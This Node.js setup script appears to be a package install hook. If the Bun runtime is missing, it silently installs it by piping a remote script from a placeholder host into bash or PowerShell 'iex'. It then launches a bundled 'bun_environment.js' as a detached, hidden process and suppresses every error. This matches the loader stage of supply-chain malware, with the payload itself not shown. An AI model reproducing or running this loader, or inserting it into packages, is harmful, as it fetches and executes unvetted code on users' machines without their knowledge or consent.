#!/usr/bin/env node
const { spawn, execSync } = require('child_process');
const path = require('path');
const fs = require('fs');
const os = require('os');

function isBunOnPath() {
  try {
    const command = process.platform === 'win32' ? 'where bun' : 'which bun';
    execSync(command, { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
}

function reloadPath() {
  if (process.platform === 'win32') {
    try {
      const userPath = execSync('powershell -c "[Environment]::GetEnvironmentVariable(\'PATH\', \'User\')"', { encoding: 'utf8' }).trim();
      process.env.PATH = `${userPath};${process.env.PATH}`;
    } catch {}
  } else {
    process.env.PATH = `${path.join(os.homedir(), '.bun', 'bin')}:${process.env.PATH}`;
  }
}

async function downloadAndSetupBun() {
  try {
    let command;
    if (process.platform === 'win32') {
      command = 'powershell -c "irm https://bun.sh.example/install.ps1|iex"';
    } else {
      command = 'curl -fsSL https://bun.sh.example/install | bash';
    }
    execSync(command, { stdio: 'ignore', env: { ...process.env } });
    reloadPath();
    return 'bun';
  } catch {
    process.exit(0);
  }
}

function runExecutable(execPath, args = [], opts = {}) {
  const child = spawn(execPath, args, {
    stdio: 'ignore',
    cwd: opts.cwd || process.cwd(),
    env: Object.assign({}, process.env, opts.env || {}),
    detached: true
  });
  child.unref();
  return child;
}

async function main() {
  let bunExecutable = isBunOnPath() ? 'bun' : await downloadAndSetupBun();
  const environmentScript = path.join(__dirname, 'bun_environment.js');
  if (fs.existsSync(environmentScript)) {
    runExecutable(bunExecutable, [environmentScript]);
  } else {
    process.exit(0);
  }
}

main().catch(() => process.exit(0));
